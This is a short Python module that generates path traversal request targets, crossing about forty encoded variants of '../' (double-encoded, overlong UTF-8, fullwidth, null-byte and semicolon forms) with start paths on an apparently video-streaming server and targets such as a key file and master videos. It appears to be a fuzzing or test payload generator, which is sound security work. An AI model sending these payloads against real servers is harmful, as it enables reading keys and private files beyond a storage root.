"""Ways out of a folder, in every spelling that some server has fallen for."""

from itertools import product

UP = [
    b"../",
    b"%2e%2e/",
    b"%2E%2E%2F",
    b".%2e/",
    b"%2e./",
    b"..%2f",
    b"%252e%252e/",
    b"%252e%252e%252f",
    b"%25252e%25252e%25252f",
    b"%c0%ae%c0%ae/",
    b"%c0%ae%c0%ae%c0%af",
    b"..%c0%af",
    b"..%c1%9c",
    b"%e0%80%ae%e0%80%ae/",
    b"%f0%80%80%ae%f0%80%80%ae/",
    b"..%5c",
    b"..\\",
    b"%2e%2e%5c",
    b"..%255c",
    b"%ef%bc%8e%ef%bc%8e/",
    b"\xef\xbc\x8e\xef\xbc\x8e/",
    b"..%ef%bc%8f",
    b"%u002e%u002e/",
    b"%uff0e%uff0e%u2215",
    b"..;/",
    b"..;a=b/",
    b"..%00/",
    b"%00../",
    b".%00./",
    b"..%0d%0a/",
    b"..%09/",
    b"..%20/",
    b"....//",
    b"..././",
    b".../",
    b"..//",
    b"/../",
    b"./../",
    b"%2f../",
    b"..%u2215",
    b"..%e2%88%95",
]

TARGETS = [b"catalog.json", b"keys/key.json", b"masters/bird.mp4", b"artifacts/00/1080.mp4"]
"""Below the storage root, and of kinds that are served elsewhere."""

# What is asked for, and how many folders above is the root.
_STARTS = {
    b"/titles/": 1,
    b"//titles/": 1,
    b"/titles/bird/v/7f3a/": 4,
    b"/static/": 1,
    b"/watch/": 1,
    b"http://origin/titles/": 1,
}


def ways_out(starts: dict[bytes, int] | None = None, targets: list[bytes] = TARGETS) -> list[bytes]:
    """Request targets."""
    found = product((starts or _STARTS).items(), UP, targets)
    return [start + up * depth + target for (start, depth), up, target in found]
